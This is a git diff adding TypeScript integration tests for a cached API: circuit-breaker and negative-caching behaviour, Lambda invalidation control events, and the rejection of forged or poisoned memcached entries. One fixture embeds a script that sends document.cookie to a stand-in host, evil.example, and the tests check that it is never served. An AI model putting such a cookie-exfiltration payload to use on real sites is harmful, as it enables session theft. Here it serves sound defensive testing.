@@ -6,10 +6,15 @@ import * as assert from "node:assert/strict";
 import * as fs from "node:fs";
 import * as net from "node:net";
 import * as path from "node:path";
-import { createTwoTierCache, type ReadThroughCache, type TwoTierCache } from "../../../functions/cache";
+import { createTwoTierCache, namespaceKeyring, parseMacKeys, sealEntry, type ReadThroughCache, type TwoTierCache } from "../../../functions/cache";
 import { ApiDeps, LogLevel, createApp } from "../../../functions/api/app";
 import { AlbResult } from "../../../functions/api/alb";
-import { LambdaContextLike, LambdaDeps, createLambdaHandler } from "../../../functions/api/lambda";
+import { LambdaContextLike, LambdaDeps, createApiHandler, createLambdaHandler } from "../../../functions/api/lambda";
+import { cacheKeyForPath, itemCacheKey, upstreamFailure } from "../../../functions/api/app";
+import { apiMetricsSink, apiSettingsFromEnv, cacheOptionsFromSettings } from "../../../functions/api/env";
+import { lambdaDepsFromEnv } from "../../../functions/api/lambdaEntry";
+import { memcachedText, newMacKey } from "../cache/helpers";
+import type { ControlResponse } from "../../../functions/cache";
 import { MemcachedServer, freePort, startMemcached } from "../../support/memcached";
 import { Upstream, startUpstream } from "../../support/upstream";
 
@@ -203,6 +208,214 @@ describe("api app (in-process, real memcached + real upstream)", function () {
       const lr = await h(albEvent("single", { path: "/items/1" }), ctx());
       assert.equal(lr.statusCode, 500);
       assert.equal(lr.statusDescription, "500 Internal Server Error");
+    });
+  });
+
+  describe("resilience: breaker, negative caching, invalidation", () => {
+    it("upstreamFailure maps 503 (breaker open / shed) and 404/410 (not found)", () => {
+      assert.equal(upstreamFailure(503).status, 503);
+      assert.equal(upstreamFailure(503).code, "upstream_unavailable");
+      assert.equal(upstreamFailure(502, 410).status, 404);
+      assert.equal(upstreamFailure(502, 404).code, "item_not_found");
+    });
+
+    it("an open breaker: 503 JSON with Retry-After at once, the upstream not called; a cached copy is served STALE instead", async () => {
+      const namespace = `brk${++seq}`;
+      const cache = createTwoTierCache({
+        namespace, memcached: { servers: [mc.address] },
+        upstream: { breaker: { failureThreshold: 2, openMs: 3000, maxOpenMs: 3000 } },
+        negative: { errorTtlSeconds: 0 },
+      });
+      caches.push(cache);
+      const app = createApp(deps({ cache, namespace, ttlSeconds: 1, staleTtlSeconds: 600 }));
+      assert.equal((await get(app, "/items/kept")).status, 200);
+      up.behaviour.status = 500;
+      assert.equal((await get(app, "/items/a")).status, 502);
+      assert.equal((await get(app, "/items/b")).status, 502);
+      const calls = up.requests.length;
+      const t = Date.now();
+      const r = await get(app, "/items/c");
+      assert.ok(Date.now() - t < 50, `took ${Date.now() - t} ms`);
+      assert.equal(r.status, 503);
+      assert.equal(r.headers.get("retry-after"), "3");
+      assert.equal(r.headers.get("cache-control"), "no-store");
+      assert.deepEqual((await r.json() as { error: { code: string } }).error.code, "upstream_unavailable");
+      await new Promise((res) => setTimeout(res, 1050)); // "kept" is past its TTL now
+      const kept = await get(app, "/items/kept");
+      assert.equal(kept.status, 200);
+      assert.equal(kept.headers.get("x-cache"), "STALE");
+      assert.equal(up.requests.length, calls, "nothing reached the upstream while open");
+      const lam = await createLambdaHandler(lambdaDeps({ cache, namespace }))(albEvent("single", { path: "/items/d" }), ctx());
+      assert.equal(lam.statusCode, 503);
+      assert.equal(lam.statusDescription, "503 Service Unavailable");
+      assert.ok(Number(lam.headers?.["retry-after"]) >= 1);
+    });
+
+    it("a missing item: 404, then 404 from the negative cache (x-cache: NEGATIVE) without calling the upstream", async () => {
+      up.behaviour.status = 404;
+      const app = createApp(deps());
+      assert.equal((await get(app, "/items/nope")).status, 404);
+      const again = await get(app, "/items/nope");
+      assert.equal(again.status, 404);
+      assert.equal(again.headers.get("x-cache"), "NEGATIVE");
+      assert.equal(up.requests.length, 1);
+    });
+
+    it("cacheKeyForPath: the key a GET of the same path uses (lang normalised, base path stripped); only /items is cached", () => {
+      assert.deepEqual(cacheKeyForPath("/items/42?lang=de", { namespace: "n" }), { ok: true, key: itemCacheKey("n", "42", "de"), id: "42", lang: "de" });
+      const plain = cacheKeyForPath("/items/42", { namespace: "n" });
+      assert.equal(plain.ok && plain.key, itemCacheKey("n", "42", "en"), "no lang = the default lang, as for a GET");
+      assert.equal(cacheKeyForPath("/dev/items/42?lang=de&x=1", { namespace: "n", basePath: "/dev" }).ok && true, true);
+      assert.equal((cacheKeyForPath("/dev/items/42", { namespace: "n", basePath: "/dev" }) as { key: string }).key, itemCacheKey("n", "42", "en"));
+      for (const bad of ["/health", "/slow?ms=1", "/nope", "items/1", "/items/a%2"]) assert.equal(cacheKeyForPath(bad, { namespace: "n" }).ok, false, bad);
+    });
+
+    it("the Lambda handler: a direct control event deletes the item's key everywhere; the same field inside an ALB event is refused (403) and changes nothing", async () => {
+      const namespace = `ctl${++seq}`;
+      const mkCache = (): TwoTierCache => {
+        const c = createTwoTierCache({ namespace, memcached: { servers: [mc.address] }, l1: { maxAgeMs: 200 } });
+        caches.push(c);
+        return c;
+      };
+      const h = createApiHandler(lambdaDeps({ cache: mkCache(), namespace }));
+      const other = createLambdaHandler(lambdaDeps({ cache: mkCache(), namespace }));
+      const event = albEvent("single", { path: "/items/42", query: { lang: "de" } });
+      assert.equal((await h(event, ctx()) as { headers?: Record<string, string> }).headers?.["x-cache"], "MISS");
+      assert.equal((await other(event, ctx())).headers?.["x-cache"], "HIT-L2");
+      up.behaviour.body = '{"id":"42","name":"Changed"}';
+
+      const forged = await h({ ...event, serverlessCacheControl: { action: "invalidate", path: "/items/42?lang=de" } }, ctx()) as { statusCode: number; body: string };
+      assert.equal(forged.statusCode, 403);
+      assert.match(forged.body, /direct invocation/);
+      assert.ok(logs.some((l) => l.message === "control field in an HTTP event refused"));
+      assert.equal((await other(event, ctx())).headers?.["x-cache"], "HIT-L1", "nothing was invalidated");
+
+      const res = await h({ serverlessCacheControl: { action: "invalidate", path: "/items/42?lang=de" } }, ctx()) as ControlResponse;
+      assert.deepEqual({ ok: res.ok, action: res.action, nodes: res.nodes.map((n) => n.result), boundMs: res.boundMs, settleMs: res.settleMs },
+        { ok: true, action: "invalidate", nodes: ["deleted"], boundMs: 200, settleMs: 5000 /* the cache's loader timeout */ });
+      await new Promise((r) => setTimeout(r, 210));
+      const after = await other(event, ctx());
+      assert.equal(after.headers?.["x-cache"], "MISS");
+      assert.match(after.body ?? "", /Changed/);
+
+      const malformed = await h({ serverlessCacheControl: { action: "invalidate" } }, ctx()) as ControlResponse;
+      assert.equal(malformed.ok, false);
+      const notCached = await h({ serverlessCacheControl: { action: "invalidate", path: "/health" } }, ctx()) as ControlResponse;
+      assert.deepEqual([notCached.ok, notCached.nodes, /not a cached route.*nothing to delete here/.test(notCached.note ?? "")], [true, [], true]);
+      const flushed = await h({ serverlessCacheControl: { action: "flush" } }, ctx()) as ControlResponse;
+      assert.equal(flushed.ok, true);
+      assert.ok((flushed.generation ?? 0) > 0);
+    });
+
+    it("the environment's resilience settings reach the cache, and the Lambda writes EMF lines for breaker events", async () => {
+      const s = apiSettingsFromEnv({ UPSTREAM_URL: up.url, MEMCACHED_SERVERS: mc.address, UPSTREAM_BREAKER_FAILURES: "1", UPSTREAM_BREAKER_OPEN_MS: "5000", UPSTREAM_BREAKER_MAX_OPEN_MS: "5000", CACHE_L1_MAX_AGE_MS: "1234", CACHE_ERROR_TTL_SECONDS: "0" });
+      const lines: string[] = [];
+      const sink = apiMetricsSink(s, "lambda");
+      assert.ok(sink, "metrics are on by default");
+      // capture what the sink writes by wrapping process.stdout for this test only
+      const origWrite = process.stdout.write.bind(process.stdout);
+      (process.stdout as unknown as { write: (c: string) => boolean }).write = (c: string) => { if (c.includes("\"_aws\"")) { lines.push(c); return true; } return origWrite(c); };
+      try {
+        const options = cacheOptionsFromSettings({ ...s, namespace: `emf${++seq}` }, log, sink);
+        assert.equal(options.l1?.maxAgeMs, 1234);
+        const cache = createTwoTierCache(options);
+        caches.push(cache);
+        const h = createApiHandler(lambdaDeps({ cache, namespace: options.namespace, flushMetrics: sink.flush }));
+        up.behaviour.status = 500;
+        await h(albEvent("single", { path: "/items/e1" }), ctx());
+        const refused = await h(albEvent("single", { path: "/items/e2" }), ctx()) as { statusCode: number };
+        assert.equal(refused.statusCode, 503);
+      } finally {
+        (process.stdout as unknown as { write: typeof origWrite }).write = origWrite;
+      }
+      const all = lines.map((l) => JSON.parse(l) as Record<string, unknown>);
+      const sum = (name: string): number => all.reduce((a, l) => a + (typeof l[name] === "number" ? (l[name] as number) : 0), 0);
+      assert.equal(sum("UpstreamBreakerOpen"), 1);
+      assert.equal(sum("UpstreamRejected"), 1);
+      assert.ok(all.every((l) => l.service === "api" && l.runtime === "lambda"));
+    });
+  });
+
+  describe("data in the caches: poisoned memcached entries, foreign content types, oversized upstream bodies", () => {
+    const KEY = newMacKey();
+    const keyed = (namespace: string): TwoTierCache => {
+      const c = createTwoTierCache({ namespace, memcached: { servers: [mc.address] }, entryAuth: { keys: KEY } });
+      caches.push(c);
+      return c;
+    };
+    const put = async (skey: string, raw: string): Promise<void> => {
+      assert.equal(await memcachedText(mc.address, `set ${skey} 0 300 ${Buffer.byteLength(raw)}\r\n${raw}\r\n`, /\r\n$/), "STORED\r\n");
+    };
+    const envelope = (d: unknown): string => {
+      const now = Date.now();
+      return JSON.stringify({ s: now, f: now + 300_000, e: now + 600_000, d, g: 0 });
+    };
+    const HTML = { status: 200, contentType: "text/html; charset=utf-8", body: "<script>fetch('https://evil.example/?'+document.cookie)</script>" };
+
+    for (const [what, make] of [
+      ["an unsigned text/html answer", (_skey: string, _ns: string) => envelope(HTML)],
+      ["an authentic (validly signed) text/html answer", (skey: string, ns: string) => sealEntry(namespaceKeyring(parseMacKeys(KEY), ns), skey, envelope(HTML))],
+      ["a signed answer copied from another item", (_skey: string, ns: string) => sealEntry(namespaceKeyring(parseMacKeys(KEY), ns), keyed(ns).storageKey(itemCacheKey(ns, "other", "en")), envelope({ status: 200, contentType: "application/json", body: '{"id":"other"}' }))],
+      ["an answer signed with another stack's key", (skey: string, ns: string) => sealEntry(namespaceKeyring(parseMacKeys(newMacKey()), ns), skey, envelope({ status: 200, contentType: "application/json", body: '{"id":"42","evil":true}' }))],
+    ] as const) {
+      it(`${what} in memcached is never served: the API answers the upstream's JSON (MISS) and repairs the entry`, async () => {
+        const namespace = `poison${++seq}`;
+        const cache = keyed(namespace);
+        await put(cache.storageKey(itemCacheKey(namespace, "42", "en")), make(cache.storageKey(itemCacheKey(namespace, "42", "en")), namespace));
+        const app = createApp({ cache, upstreamUrl: up.url, runtime: "container", namespace, log });
+        const r = await get(app, "/items/42?lang=en");
+        assert.equal(r.status, 200);
+        assert.equal(r.headers.get("x-cache"), "MISS");
+        assert.equal(r.headers.get("content-type"), "application/json; charset=utf-8");
+        assert.equal(r.headers.get("x-content-type-options"), "nosniff");
+        assert.equal(await r.text(), '{"id":"42","name":"Widget"}');
+        assert.equal(up.requests.length, 1, "the request refetched");
+        const other = createApp({ cache: keyed(namespace), upstreamUrl: up.url, runtime: "container", namespace, log });
+        const again = await get(other, "/items/42?lang=en");
+        assert.equal(again.headers.get("x-cache"), "HIT-L2", "memcached now holds the authentic answer");
+        assert.equal(await again.text(), '{"id":"42","name":"Widget"}');
+      });
+    }
+
+    it("a validly signed JSON answer is served from memcached (HIT-L2) without calling the upstream", async () => {
+      const namespace = `valid${++seq}`;
+      const cache = keyed(namespace);
+      const skey = cache.storageKey(itemCacheKey(namespace, "7", "en"));
+      await put(skey, sealEntry(namespaceKeyring(parseMacKeys(KEY), namespace), skey, envelope({ status: 200, contentType: "application/json", body: '{"id":"7","from":"memcached"}' })));
+      const r = await get(createApp({ cache, upstreamUrl: up.url, runtime: "container", namespace, log }), "/items/7?lang=en");
+      assert.equal(r.headers.get("x-cache"), "HIT-L2");
+      assert.equal(await r.text(), '{"id":"7","from":"memcached"}');
+      assert.equal(up.requests.length, 0);
+    });
+
+    it("an upstream answering text/html gets a 502 (nothing stored, nothing of it served)", async () => {
+      up.behaviour = { ...up.behaviour, contentType: "text/html", body: "<html>captive portal</html>" };
+      const d = deps();
+      const r = await get(createApp(d), "/items/5");
+      assert.equal(r.status, 502);
+      const body = await r.json() as { error: { code: string; message: string } };
+      assert.deepEqual(body.error, { code: "upstream_error", message: "the upstream answered a content type this API does not serve" });
+      assert.ok(logs.some((l) => l.level === "warn" && l.fields?.invalidAnswer === "content-type"));
+    });
+
+    it("an upstream body over the cap is cut and answered 502, by the app and by the Lambda built from the environment", async () => {
+      up.behaviour = { ...up.behaviour, body: JSON.stringify({ blob: "x".repeat(300_000) }) };
+      const r = await get(createApp(deps({ upstreamMaxBodyBytes: 100_000 })), "/items/6");
+      assert.equal(r.status, 502);
+      assert.equal((await r.json() as { error: { message: string } }).error.message, "the upstream's answer is larger than this API accepts");
+      // The deployed path: settings from the environment (the key, the cap, the types) into the Lambda handler.
+      const namespace = `envsec${++seq}`;
+      const env = { UPSTREAM_URL: up.url, MEMCACHED_SERVERS: mc.address, CACHE_NAMESPACE: namespace, CACHE_MAC_KEYS: KEY, UPSTREAM_MAX_BODY_BYTES: "100000", LOG_LEVEL: "silent" };
+      const ld = lambdaDepsFromEnv(env);
+      caches.push(ld.cache as TwoTierCache);
+      const h = createLambdaHandler({ ...ld, log });
+      const big = await h(albEvent("single", { path: "/items/6" }), ctx()) as AlbResult;
+      assert.equal(big.statusCode, 502);
+      up.behaviour = { ...up.behaviour, body: '{"id":"8"}' };
+      const small = await h(albEvent("single", { path: "/items/8" }), ctx()) as AlbResult;
+      assert.equal(small.statusCode, 200);
+      const stored = await memcachedText(mc.address, `get ${(ld.cache as TwoTierCache).storageKey(itemCacheKey(namespace, "8", "en"))}\r\n`, /END\r\n$/);
+      assert.match(stored, /\r\n~m1:/, "the Lambda seals what it stores with the key from its environment");
     });
   });
 
